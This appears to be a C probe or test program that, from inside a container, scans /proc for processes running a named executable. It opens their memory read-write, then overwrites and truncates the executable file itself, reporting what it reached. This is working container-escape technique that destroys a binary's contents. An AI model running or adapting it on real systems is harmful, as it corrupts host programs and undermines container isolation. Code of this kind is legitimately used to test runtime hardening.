/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * grab NAME: inside a container, reaches for every process it can see that is
 * still executed from a file called NAME: its memory, its descriptors, and the
 * file itself, which it tries to write to once it runs no longer. Says what it
 * got hold of, and ends when it is killed.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PATH_SIZE 64 /* "/proc/", a pid, and a short name */

static int reach(const char *pid, const char *what, int flags)
{
	char path[PATH_SIZE];
	int len = snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);

	if (len < 0 || len >= (int)sizeof(path))
		return -1;
	return open(path, flags | O_CLOEXEC);
}

static int is_called(const char *pid, const char *name)
{
	char path[PATH_SIZE], target[4096];
	ssize_t got;
	int len = snprintf(path, sizeof(path), "/proc/%s/exe", pid);

	if (len < 0 || len >= (int)sizeof(path))
		return 0;
	got = readlink(path, target, sizeof(target) - 1);
	if (got < 0)
		return 0;
	target[got] = '\0';
	return strstr(target, name) != NULL;
}

/* Nobody can write to what is executed, so wait until it is not. */
static void write_to_file(const char *pid, int file)
{
	char path[PATH_SIZE];
	int len = snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	int fd = -1;

	if (len < 0 || len >= (int)sizeof(path))
		return;
	for (int tries = 0; tries < 200; tries++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		(void)usleep(1000);
	}
	if (fd >= 0 && write(fd, "#!/broken\n", 10) == 10)
		printf("grabbed the program of %s and wrote to it\n", pid);
	if (fd >= 0)
		(void)close(fd);
	if (truncate(path, 0) == 0)
		printf("grabbed the program of %s and cut it\n", pid);
}

static void grab(const char *pid, const char *name)
{
	int file, fd;

	if (!is_called(pid, name))
		return;
	file = reach(pid, "exe", O_RDONLY);
	fd = reach(pid, "mem", O_RDWR);
	if (fd >= 0 && is_called(pid, name))
		printf("reached memory of %s\n", pid);
	if (fd >= 0)
		(void)close(fd);
	if (file >= 0) {
		printf("reached the program of %s\n", pid);
		write_to_file(pid, file);
		(void)close(file);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc)))
			if (d->d_name[0] >= '1' && d->d_name[0] <= '9')
				grab(d->d_name, argv[1]);
		if (proc)
			(void)closedir(proc);
	}
}
